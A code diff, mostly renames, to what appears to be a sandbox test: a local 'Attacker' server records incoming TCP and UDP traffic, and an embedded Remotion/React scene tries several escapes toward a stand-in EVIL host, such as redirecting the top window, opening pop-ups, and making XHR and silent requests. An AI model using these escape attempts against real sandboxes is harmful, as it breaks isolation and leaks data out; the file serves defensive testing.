@@ -1,4 +1,4 @@
-"""A server on another port that notes whatever reaches it, and a scene that tries everything."""
+"""A server on another port that records whatever reaches it, and a scene that tries to escape."""
 
 import asyncio
 from typing import Self
@@ -10,12 +10,15 @@ ANSWER = (
 
 
 class Attacker:
-    """`heard` has the first line of each connection, TCP or UDP, empty when none was sent."""
+    """Records the first line of each TCP connection and each UDP packet in `received`.
+
+    A connection that sent nothing leaves an empty line.
+    """
 
     port: int
 
     def __init__(self) -> None:
-        self.heard: list[str] = []
+        self.received: list[str] = []
 
     @property
     def url(self) -> str:
@@ -25,8 +28,8 @@ class Attacker:
         self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
         self.port = self._server.sockets[0].getsockname()[1]
         loop = asyncio.get_running_loop()
-        place = ("127.0.0.1", self.port)
-        self._udp, _ = await loop.create_datagram_endpoint(lambda: _Packets(self.heard), place)
+        address = ("127.0.0.1", self.port)
+        self._udp, _ = await loop.create_datagram_endpoint(lambda: _Packets(self.received), address)
         return self
 
     async def __aexit__(self, *_: object) -> None:
@@ -34,22 +37,23 @@ class Attacker:
         self._server.close()
 
     async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        place = len(self.heard)
-        self.heard.append("")
-        self.heard[place] = (await reader.readline()).decode().strip()
+        index = len(self.received)
+        self.received.append("")
+        self.received[index] = (await reader.readline()).decode().strip()
         writer.write(ANSWER)
         writer.close()
 
 
 class _Packets(asyncio.DatagramProtocol):
-    def __init__(self, heard: list[str]) -> None:
-        self._heard = heard
+    def __init__(self, received: list[str]) -> None:
+        self._received = received
 
-    def datagram_received(self, data: bytes, place: tuple[str, int]) -> None:
-        self._heard.append(f"UDP {data[:20]!r}")
+    def datagram_received(self, data: bytes, address: tuple[str, int]) -> None:
+        self._received.append(f"UDP {data[:20]!r}")
 
 
-# Each attempt tells how it ended: "refused", or what it got; `quiet` ones only try.
+# Each attempt shows how it ended: "refused", or what it got. A `quiet` one cannot tell; the server
+# would record it.
 ESCAPES = """
 import {AbsoluteFill} from 'remotion';
 import {useEffect, useState} from 'react';
@@ -68,7 +72,7 @@ const put = (tag: string, fields: object) => {
 };
 const quiet = (tag: string, fields: object) => {
   put(tag, fields).catch(() => undefined);
-  throw new Error('the listener knows');
+  throw new Error('the server records it');
 };
 const xhr = (url: string) => {
   const request = new XMLHttpRequest();
@@ -145,12 +149,12 @@ const attempts: Record<string, () => unknown> = {
   leave: () => { top!.location.href = EVIL; },
   popUp: () => { if (window.open(EVIL) === null) throw new Error('no'); },
 };
-const told: Record<string, string> = {};
+const results: Record<string, string> = {};
 for (const [name, work] of Object.entries(attempts)) {
-  told[name] = 'waits';
+  results[name] = 'waits';
   new Promise((resolve) => resolve(work())).then(
-    (value) => { told[name] = `GOT ${value}`; },
-    () => { told[name] = 'refused'; },
+    (value) => { results[name] = `GOT ${value}`; },
+    () => { results[name] = 'refused'; },
   );
 }
 export default function Escapes() {
@@ -162,7 +166,7 @@ export default function Escapes() {
   return (
     <AbsoluteFill style={{background: '#fff', columns: 3, fontSize: 40}}>
       <b>{self.origin}</b>
-      {Object.entries(told).map(([name, end]) => <p key={name}>{name}: {end}</p>)}
+      {Object.entries(results).map(([name, end]) => <p key={name}>{name}: {end}</p>)}
     </AbsoluteFill>
   );
 }
